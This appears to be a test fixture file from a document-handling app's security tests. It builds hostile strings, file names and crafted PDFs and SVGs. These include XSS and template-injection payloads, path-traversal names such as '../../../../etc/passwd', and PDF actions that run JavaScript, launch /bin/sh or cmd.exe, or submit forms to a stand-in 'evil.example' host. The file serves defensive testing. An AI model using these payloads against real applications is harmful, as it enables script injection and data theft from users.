// Files and names that strangers made to run something, to ask for something, or to be taken for something else.
import { strToU8 } from 'fflate';
import { assemblePdf } from './small-pdf';

/** Where everything hostile leads: a name that is not there, and that no other spec asks for. */
export const EVIL = 'https://evil.example';
const RUN = 'window.ran=(window.ran||0)+1';

/** Texts that are scripts, links or code of templates. */
export const hostileTexts: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"/></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `"><a href="javascript:${RUN}">click</a>`,
  `<details open ontoggle="${RUN}">`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<img src="${EVIL}/pixel.png">`,
  `<object data="${EVIL}/x"></object>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}"><button autofocus onfocus="${RUN}">`,
  `<style>@import "${EVIL}/y.css";*{background:url(${EVIL}/z)}</style>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `$t(about.title) {{title}}`,
  `<b onmouseover="${RUN}">bold</b>`,
  `__proto__`,
  `constructor`,
  `\u202Efdp.exe\u202C and \u0000 and \uD800`,
  `-->]]></textarea></title><script>${RUN}</script>`,
];

/** Names of files, without their ending. */
export const hostileNames: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `javascript:${RUN}`,
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\x',
  'con',
  'nul.',
  '\u202Egnp.exe',
  'a'.repeat(240),
  '__proto__',
  "' onfocus='x",
  'semi;colon|pipe&and$dollar`tick`',
  '%2e%2e%2f%00',
  ' leading and trailing ',
  '\ud83d\ude00 \u05e9\u05dc\u05d5\u05dd',
];

const words = 'BT /F1 24 Tf 72 700 Td (Hostile) Tj ET';
/** A page with words, and what is added to its catalogue, its page and its objects (from 6 on). */
const pdf = (catalog: string, page = '', more: readonly string[] = [], font = ''): Buffer =>
  assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page} /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> >>`,
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >>`,
    ...more,
  ]);
const link = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]`;
const script = `/S /JavaScript /JS (app.alert(1); this.submitForm("${EVIL}/f"); window.ran = 1)`;

/** PDFs by what they try. */
export const hostilePdfs: Readonly<Record<string, Buffer>> = {
  'a script when it opens': pdf(`/OpenAction << ${script} >>`),
  'a script by name': pdf(`/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`),
  'a script when it is closed or printed': pdf(`/AA << /WC << ${script} >> /WP << ${script} >> >>`),
  'a script of its page': pdf('', `/AA << /O << ${script} >> >>`),
  'a link that is a script': pdf('', link(`/S /URI /URI (javascript:${RUN})`)),
  'a link of script': pdf('', link(script)),
  'an address when it opens': pdf(`/OpenAction << /S /URI /URI (${EVIL}/open) >>`),
  'a program to launch': pdf(`/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>`),
  'a form that sends itself': pdf(`/OpenAction << /S /SubmitForm /F (${EVIL}/form) >>`),
  'another document': pdf('', link(`/S /GoToR /F (${EVIL}/x.pdf) /D [0 /Fit] /NewWindow true`)),
  'a document within': pdf('', link(`/S /GoToE /F (//evil.example/share/x.pdf) /D [0 /Fit]`)),
  'data to bring in': pdf(`/OpenAction << /S /ImportData /F (${EVIL}/x.fdf) >>`),
  'a stream elsewhere': pdf('', '', [
    `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (${EVIL}/stream) >> /Length 0 >>\nstream\n\nendstream`,
  ]),
  'a form of XFA': pdf('/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true', '', [
    `<< /Length 118 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>window.ran=1</script></template></xdp:xdp>\nendstream`,
  ]),
  'a font whose matrix is code': pdf(
    '',
    '',
    [],
    `/FontMatrix [1 0 0 1 0 (1\\); window.ran = 1; //)] /FontDescriptor << /Type /FontDescriptor /FontName /X >>`,
  ),
  'a title that is a script': pdf(`/Metadata 6 0 R /Lang (<script>window.ran=1</script>)`, '', [
    `<< /Title (<script>window.ran=1</script>) >>`,
  ]),
  'a note that is a script': pdf(
    '',
    `/Annots [<< /Type /Annot /Subtype /Text /Rect [10 10 50 50] /Contents (<img src=x onerror=window.ran=1>) /RC (<body><script>window.ran=1</script></body>) >>]`,
  ),
  'a field that is a script': pdf(`/AcroForm << /Fields [7 0 R] >>`, '/Annots [7 0 R]', [
    '<< >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (<img src=x onerror=window.ran=1>) /Rect [10 10 200 50] /AA << /K << ${script} >> /F << ${script} >> /E << ${script} >> >> >>`,
  ]),
  'pages that go round': assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R] /Count 99999 >>',
  ]),
  'layers with a script for a name': pdf(
    `/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] /Name (<img src=x onerror=window.ran=1>) >> >>`,
    '',
    ['<< /Type /OCG /Name (<img src=x onerror=window.ran=1>) >>'],
  ),
};

const svg = (inner: string): Uint8Array =>
  strToU8(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${RUN}">${inner}<text>drawn</text></svg>`,
  );
/** Pictures of SVG: as files of their own, and for within a page. */
export const hostileSvgs: readonly Uint8Array[] = [
  svg(`<script>${RUN}</script>`),
  svg(`<script href="${EVIL}/a.js"/>`),
  svg(`<image href="${EVIL}/a.png" width="9" height="9"/>`),
  svg(`<use xlink:href="${EVIL}/a.svg#x"/>`),
  svg(
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/></foreignObject>`,
  ),
  svg(`<a xlink:href="javascript:${RUN}"><rect width="9" height="9"/></a>`),
  svg(
    `<animate attributeName="href" to="javascript:${RUN}" begin="0s"/><set attributeName="onclick" to="${RUN}"/>`,
  ),
  svg(`<style>@import url(${EVIL}/a.css);</style><filter><feImage href="${EVIL}/b.png"/></filter>`),
];
